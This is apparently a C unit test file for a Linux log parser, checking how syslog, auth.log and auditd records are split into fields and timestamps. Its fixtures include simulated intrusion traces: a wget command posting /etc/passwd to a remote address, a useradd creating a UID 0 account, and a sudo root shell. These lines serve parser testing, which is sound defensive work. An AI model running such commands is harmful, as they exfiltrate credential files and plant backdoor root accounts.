/* test_logs_linux.c — syslog/auth.log (BSD and RFC 3339/5424 stamps, year
 * inference across new year, sshd/sudo/useradd details) and auditd (hex
 * decoding, split arguments, inner msg, enriched fields, syscall names). */
#include "test.h"
#include "logs_util.h"

TEST(logs_syslog_auth)
{
    lt t;
    lt_init(&t, SP_LOG_LINUX_AUTH, "/var/log/auth.log");
    /* reference (file mtime): 2023-01-02 12:00 UTC */
    sp_logstate_set_ref_time(t.st, 1672660800000LL);
    CHECK_EQ_INT(lt_parse(&t, "Dec 31 23:59:58 mail sshd[4242]: Failed password for invalid user admin from 193.176.211.77 port 50022 ssh2"), 1);
    CHECK_EQ_INT(t.ev.time_ms, 1672531198000LL);    /* 2022-12-31 */
    CHECK_STR(t.ev.product, "linux");
    CHECK_STR(t.ev.service, "sshd");
    CHECK_STR(lt_get(&t, "host"), "mail");
    CHECK_STR(lt_get(&t, "program"), "sshd");
    CHECK_STR(lt_get(&t, "pid"), "4242");
    CHECK_STR(lt_get(&t, "user"), "admin");
    CHECK_STR(lt_get(&t, "src_ip"), "193.176.211.77");
    CHECK_STR(lt_get(&t, "src_port"), "50022");
    CHECK_STR(lt_get(&t, "outcome"), "failed");
    CHECK_STR(lt_get(&t, "auth_method"), "password");
    CHECK_EQ_INT(lt_parse(&t, "Jan  1 00:00:03 mail sshd[4243]: Accepted publickey for bob from 2001:db8::5 port 22 ssh2: ED25519 SHA256:x"), 1);
    CHECK_EQ_INT(t.ev.time_ms, 1672531203000LL);    /* 2023-01-01: rollover */
    CHECK_STR(lt_get(&t, "outcome"), "accepted");
    CHECK_STR(lt_get(&t, "auth_method"), "publickey");
    CHECK_STR(lt_get(&t, "user"), "bob");
    CHECK_STR(lt_get(&t, "src_ip"), "2001:db8::5");
    CHECK_EQ_INT(lt_parse(&t, "Jan  1 00:00:04 mail sshd[1]: Connection closed by authenticating user root 1.2.3.4 port 5 [preauth]"), 1);
    CHECK_STR(lt_get(&t, "user"), "root");
    CHECK_STR(lt_get(&t, "src_ip"), "1.2.3.4");
    CHECK_EQ_INT(lt_parse(&t, "Jan  1 00:00:05 mail sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/sh -c id"), 1);
    CHECK_STR(t.ev.service, "sudo");
    CHECK_STR(lt_get(&t, "pid"), "(absent)");
    CHECK_STR(lt_get(&t, "user"), "alice");
    CHECK_STR(lt_get(&t, "target_user"), "root");
    CHECK_STR(lt_get(&t, "command"), "/bin/sh -c id");
    CHECK_EQ_INT(lt_parse(&t, "Jan  1 00:00:06 mail useradd[9]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash"), 1);
    CHECK_STR(t.ev.service, "auth");
    CHECK_STR(lt_get(&t, "user"), "sysadm");
    CHECK_STR(lt_get(&t, "uid"), "0");
    CHECK_EQ_INT(lt_parse(&t, "Jan  1 00:00:07 mail kernel: [  12.3] usb 1-1: new device"), 1);
    CHECK_STR(lt_get(&t, "program"), "kernel");
    CHECK_STR(lt_get(&t, "message"), "[  12.3] usb 1-1: new device");
    CHECK_EQ_INT(lt_parse(&t, "Jan  1 00:00:08 mail last message repeated 3 times"), 1);
    CHECK_STR(lt_get(&t, "program"), "(absent)");
    CHECK_STR(lt_get(&t, "message"), "last message repeated 3 times");
    /* RFC 3339 (rsyslog) and RFC 5424 */
    CHECK_EQ_INT(lt_parse(&t, "2024-05-01T10:11:12.345678+02:00 web1 CRON[77]: (root) CMD (run-parts)"), 1);
    CHECK_EQ_INT(t.ev.time_ms, 1714551072345LL);
    CHECK_STR(t.ev.service, "cron");
    CHECK_EQ_INT(lt_parse(&t, "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - 'su root' failed for lonvick on /dev/pts/8"), 1);
    CHECK_STR(lt_get(&t, "program"), "su");
    CHECK_STR(lt_get(&t, "host"), "mymachine.example.com");
    CHECK_STR(lt_get(&t, "message"), "'su root' failed for lonvick on /dev/pts/8");
    CHECK_EQ_INT(t.ev.time_ms, 1065910455003LL);
    /* unterminated structured data (found by fuzzing: read past the line) */
    CHECK_EQ_INT(lt_parse(&t, "<13>1 2003-10-11T22:14:15.003Z h app 1 id [x a=\"b"), 1);
    CHECK_STR(lt_get(&t, "message"), "");
    CHECK_EQ_INT(lt_parse(&t, "<13>1 2003-10-11T22:14:15.003Z h app 1 id [x a=\"b\"] m"), 1);
    CHECK_STR(lt_get(&t, "message"), "m");
    /* time zone for zoneless stamps */
    sp_logstate_set_tz_offset(t.st, 540);
    CHECK_EQ_INT(lt_parse(&t, "Jan  2 09:00:00 mail sshd[1]: x"), 1);
    CHECK_EQ_INT(t.ev.time_ms, 1672617600000LL);    /* 2023-01-02 00:00 UTC */
    CHECK_EQ_INT(lt_parse(&t, "Foo  2 09:00:00 mail sshd[1]: x"), -1);
    CHECK_EQ_INT(lt_parse(&t, "Jan  2 09:00:00"), -1);
    CHECK_EQ_INT(lt_parse(&t, ""), 0);
    lt_fini(&t);

    lt_init(&t, SP_LOG_LINUX_AUTH, "/var/log/syslog.1");
    CHECK_EQ_INT(lt_parse(&t, "Jan  2 09:00:00 mail named[5]: client 1.2.3.4#53: denied AXFR from x"), 1);
    CHECK_STR(t.ev.service, "syslog");
    lt_fini(&t);
}

TEST(logs_auditd)
{
    lt t;
    lt_init(&t, SP_LOG_LINUX_AUDIT, "audit.log");
    CHECK_EQ_INT(lt_parse(&t, "type=SYSCALL msg=audit(1664000000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=7ffc items=2 ppid=1 pid=2 auid=1000 uid=33 euid=33 comm=\"sh\" exe=2F7573722F62696E2F64617368 key=(null)"), 1);
    CHECK_STR(t.ev.product, "linux");
    CHECK_STR(t.ev.service, "auditd");
    CHECK_EQ_INT(t.ev.time_ms, 1664000000123LL);
    CHECK_STR(lt_get(&t, "serial"), "456");
    CHECK_STR(lt_get(&t, "type"), "SYSCALL");
    CHECK_STR(lt_get(&t, "a0"), "55d0");                /* SYSCALL args are numbers */
    CHECK_STR(lt_get(&t, "exe"), "/usr/bin/dash");      /* hex decoded */
    CHECK_STR(lt_get(&t, "comm"), "sh");
    CHECK_STR(lt_get(&t, "key"), "(null)");
    CHECK_STR(lt_get(&t, "SYSCALL"), "execve");         /* named from arch + number */
    CHECK_EQ_INT(lt_parse(&t, "type=EXECVE msg=audit(1664000000.123:456): argc=3 a0=\"wget\" a1=\"--post-file=/etc/passwd\" a2=687474703A2F2F31302E302E302E312F7570206C6F6164"), 1);
    CHECK_STR(lt_get(&t, "a0"), "wget");
    CHECK_STR(lt_get(&t, "a1"), "--post-file=/etc/passwd");
    CHECK_STR(lt_get(&t, "a2"), "http://10.0.0.1/up load");
    /* a long argument split into a1[0], a1[1] */
    CHECK_EQ_INT(lt_parse(&t, "type=EXECVE msg=audit(1664000000.123:457): argc=2 a0=\"echo\" a1_len=6 a1[0]=414243 a1[1]=444546"), 1);
    CHECK_STR(lt_get(&t, "a1"), "ABCDEF");
    CHECK_EQ_INT(lt_count(&t, "a1"), 1);
    /* proctitle: NULs become spaces */
    CHECK_EQ_INT(lt_parse(&t, "type=PROCTITLE msg=audit(1664000000.123:456): proctitle=2F62696E2F7368002D630069640A"), 1);
    CHECK_STR(lt_get(&t, "proctitle"), "/bin/sh -c id\n");
    /* several keys: \x01-separated, hex encoded */
    CHECK_EQ_INT(lt_parse(&t, "type=SYSCALL msg=audit(1664000000.123:458): arch=c000003e syscall=42 key=6E6574016578656373"), 1);
    CHECK_EQ_INT(lt_count(&t, "key"), 2);
    CHECK_STR(lt_getk(&t, "key", 1), "execs");
    CHECK_STR(lt_get(&t, "SYSCALL"), "connect");
    /* user space record with inner msg='...'; node prefix; enriched fields after \x1d */
    CHECK_EQ_INT(lt_parse(&t, "node=mail type=USER_LOGIN msg=audit(1664000001.000:99): pid=5 uid=0 auid=34 msg='op=login acct=6261636B7570 exe=\"/usr/sbin/sshd\" addr=193.176.211.77 res=success'\x1d" "UID=\"root\" AUID=\"backup\""), 1);
    CHECK_STR(lt_get(&t, "node"), "mail");
    CHECK_STR(lt_get(&t, "acct"), "backup");
    CHECK_STR(lt_get(&t, "addr"), "193.176.211.77");
    CHECK_STR(lt_get(&t, "res"), "success");
    CHECK_STR(lt_get(&t, "AUID"), "backup");
    CHECK_STR(lt_get(&t, "uid"), "0");
    CHECK_EQ_INT(lt_parse(&t, "type=SYSCALL msg=audit(1664000000.123:459): arch=c000003e syscall=59 SYSCALL=execve"), 1);
    CHECK_EQ_INT(lt_count(&t, "SYSCALL"), 1);
    /* AVC text tokens are skipped */
    CHECK_EQ_INT(lt_parse(&t, "type=AVC msg=audit(1664000000.5:1): avc:  denied  { read } for  pid=1 comm=\"x\" name=\"shadow\""), 1);
    CHECK_STR(lt_get(&t, "name"), "shadow");
    /* malformed */
    CHECK_EQ_INT(lt_parse(&t, "type=SYSCALL msg=audit(abc:1): x=1"), -1);
    CHECK_EQ_INT(lt_parse(&t, "hello"), -1);
    CHECK_EQ_INT(lt_parse(&t, "type=SYSCALL msg=audit(1664000000.123:456): a=\"unterminated"), 1);
    CHECK_STR(lt_get(&t, "a"), "unterminated");
    lt_fini(&t);
}
